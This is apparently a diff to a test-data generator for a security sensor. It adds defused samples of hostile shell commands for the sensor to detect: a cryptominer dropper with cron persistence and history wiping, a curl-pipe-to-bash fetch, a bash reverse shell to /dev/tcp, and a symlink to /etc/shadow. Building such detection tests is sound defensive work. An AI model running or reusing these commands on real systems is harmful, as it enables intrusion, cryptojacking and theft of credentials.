@@ -20,8 +20,10 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 DROPPER = """#!/bin/bash
 exit 0
 # Never reached: the sensor only reads these lines.
-curl -s http://127.0.0.1:9/stage2.sh | bash
-chmod +x /tmp/.x && /tmp/.x
+cd /tmp; wget -q http://127.0.0.1:9/xmrig -O /tmp/.x; chmod +x /tmp/.x
+nohup /tmp/.x -o stratum+tcp://127.0.0.1:3333 -u wallet >/dev/null 2>&1 &
+(crontab -l 2>/dev/null; echo "* * * * * curl -s http://127.0.0.1:9/s.sh | bash") | crontab -
+history -c; rm -f ~/.bash_history
 """
 BENIGN_SH = """#!/bin/sh
 # rotate logs
@@ -114,8 +116,10 @@ def host_trace():
     hold(["sh", "rotate.sh"], {"source": "file", "path": "rotate.sh"}, "/usr/bin/dash")
     hold(["python3", work + "/rs.py"], {"source": "file", "path": work + "/rs.py"}, "/usr/bin/python3.11")
     hold(["python3", "ok.py"], {"source": "file", "path": "ok.py"}, "/usr/bin/python3.11")
-    code = "wget -q -O- http://127.0.0.1:9/m.sh | sh"
+    code = "exit 0; curl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; /tmp/.k"
     hold(["bash", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/bash")
+    code = "exit 0; bash -i >& /dev/tcp/127.0.0.1/9 0>&1"
+    hold(["sh", "-c", code], {"source": "inline", "inline": code}, "/usr/bin/dash")
     hold(["bash", "-lc", "echo hello"], {"source": "inline", "inline": "echo hello"}, "/usr/bin/bash")
     pycode = "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"
     hold(["python3", "-c", pycode], {"source": "inline", "inline": pycode}, "/usr/bin/python3.11")
@@ -133,7 +137,7 @@ def podman_trace():
     name = "sensor-golden-probe"
     subprocess.run(["podman", "rm", "-f", name], capture_output=True)
     setup = (
-        "mkdir -p /opt/app && printf '#!/bin/bash\\nexit 0\\ncurl -s http://127.0.0.1:9/x | bash\\n' > /opt/app/job.sh"
+        "mkdir -p /opt/app && printf '#!/bin/bash\\nexit 0\\ncurl -fsSL http://127.0.0.1:9/x.sh | bash; chmod +x /tmp/.k; nohup /tmp/.k -o stratum+tcp://127.0.0.1:3333 &\\nhistory -c\\n' > /opt/app/job.sh"
         " && ln -sf /etc/shadow /opt/app/link.sh && exec sleep 60"
     )
     subprocess.run(["podman", "--runtime", "runc", "run", "-d", "--name", name, "--label", "team=golden",
